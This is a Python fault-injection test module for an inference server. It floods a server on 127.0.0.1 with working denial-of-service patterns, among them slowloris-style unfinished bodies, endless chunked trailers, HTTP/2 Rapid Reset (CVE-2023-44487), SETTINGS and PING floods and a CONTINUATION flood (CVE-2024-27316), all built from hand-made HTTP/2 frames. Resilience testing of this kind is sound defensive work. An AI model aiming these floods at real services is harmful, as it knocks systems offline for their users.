"""Floods by one attacker on 127.0.0.1: `python -m tests.faults.floods NAME HTTP_PORT GRPC_PORT MODEL`.

Each has four times the size of one that ended a pod, or whose memory a pod never gave back, when memory had no bound.
"""

from __future__ import annotations

import socket
import struct
import sys
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from itertools import chain, islice, repeat

import grpc

from tabserve.inference.grpc import open_inference_pb2 as pb
from tests.faults import wire

CALLS, MESSAGE_BYTES = 128, 8_000_000
BODIES, BODY_BYTES = 400, 8_000_000
CHUNKED = 8
TRAILERS = 20_000_000
STREAMS, FRAMES = 80_000, 400_000
BATCH = 500
"""How many parts are sent at once."""
PATIENCE_SECONDS = 60.0

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 4
METHOD = b"/inference.GRPCInferenceService/ModelInfer"
# RFC 7541: POST and http from the static table, then literals that are not indexed.
REQUEST = b"\x83\x86\x04%c%s\x01\x01x\x0f\x10\x10application/grpc\x00\x02te\x08trailers" % (len(METHOD), METHOD)


def large_messages(_: int, grpc_port: int, model: str) -> None:
    """Whole gRPC messages, all at once over four connections."""
    message = pb.ModelInferRequest(model_name=model, raw_input_contents=[bytes(MESSAGE_BYTES)]).SerializeToString()
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
    with ExitStack() as stack:
        address = f"127.0.0.1:{grpc_port}"
        channels = [stack.enter_context(grpc.insecure_channel(address, options)) for _ in range(4)]
        calls = [channels[i % 4].unary_unary(METHOD.decode()).future(message, PATIENCE_SECONDS) for i in range(CALLS)]
        for call in calls:
            call.exception()


def unfinished_bodies(http_port: int, _: int, model: str) -> None:
    """Bodies without their last byte, each on a connection of its own."""
    request = wire.post(path(model), f"Content-Length: {BODY_BYTES + 1}", body=b" " * BODY_BYTES)
    hold(http_port, request, BODIES)


def tiny_chunks(http_port: int, _: int, model: str) -> None:
    """Bodies in chunks of two bytes."""
    chunks = b"2\r\n  \r\n" * (BODY_BYTES // 2)
    hold(http_port, wire.post(path(model), "Transfer-Encoding: chunked", body=chunks), CHUNKED)


def trailers(http_port: int, _: int, model: str) -> None:
    """Trailer fields without end."""
    with wire.connection(http_port) as opened:
        begun = wire.post(path(model), "Transfer-Encoding: chunked", body=b"2\r\n{}\r\n0\r\n")
        send(opened, chain([begun], (b"t%08d: x\r\n" % n for n in range(TRAILERS))))


def open_streams(_: int, grpc_port: int, model: str) -> None:
    """Calls that send no message, on one connection."""
    streams = range(1, 2 * STREAMS, 2)
    http2(grpc_port, (frame(HEADERS, END_HEADERS, stream, REQUEST) for stream in streams))


def rapid_reset(_: int, grpc_port: int, model: str) -> None:
    """Calls that are cancelled at once (CVE-2023-44487)."""
    cancel = struct.pack(">I", 8)
    streams = range(1, 2 * STREAMS, 2)
    http2(grpc_port, (frame(HEADERS, END_HEADERS, one, REQUEST) + frame(RESET, 0, one, cancel) for one in streams))


def settings(_: int, grpc_port: int, model: str) -> None:
    """SETTINGS frames whose acknowledgements are not read."""
    http2(grpc_port, repeat(frame(SETTINGS, 0, 0, b""), FRAMES))


def pings(_: int, grpc_port: int, model: str) -> None:
    """PING frames whose acknowledgements are not read."""
    http2(grpc_port, repeat(frame(PING, 0, 0, bytes(8)), FRAMES))


def continuations(_: int, grpc_port: int, model: str) -> None:
    """A header block without end (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, (b"\x00\x01a\x7d" + b"v" * 125) * 100)
    http2(grpc_port, [frame(HEADERS, 0, 1, REQUEST), *repeat(more, FRAMES // 100)])


FLOODS = {
    flood.__name__: flood
    for flood in (
        large_messages,
        unfinished_bodies,
        tiny_chunks,
        trailers,
        open_streams,
        rapid_reset,
        settings,
        pings,
        continuations,
    )
}


def path(model: str) -> str:
    """The path of V2 inference."""
    return f"/v2/models/{model}/infer"


def hold(port: int, request: bytes, count: int) -> None:
    """Send a request on `count` connections at once, which stay open until all were sent."""
    with ExitStack() as stack, ThreadPoolExecutor(count) as pool:
        opened = [stack.enter_context(wire.connection(port)) for _ in range(count)]
        list(pool.map(lambda one: send(one, [request]), opened))


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def http2(port: int, frames: Iterable[bytes]) -> None:
    """Send frames on one HTTP/2 connection, and read nothing."""
    with wire.connection(port) as opened:
        send(opened, [PREFACE + frame(SETTINGS, 0, 0, b"")])
        send(opened, frames)


def send(opened: socket.socket, parts: Iterable[bytes]) -> None:
    """Send parts until the other side closes, or takes no more for a while."""
    opened.settimeout(wire.STUCK_SECONDS)
    try:
        rest = iter(parts)
        while batch := b"".join(islice(rest, BATCH)):
            opened.sendall(batch)
    except OSError:
        return


if __name__ == "__main__":
    name, http_port, grpc_port, model = sys.argv[1:]
    FLOODS[name](int(http_port), int(grpc_port), model)
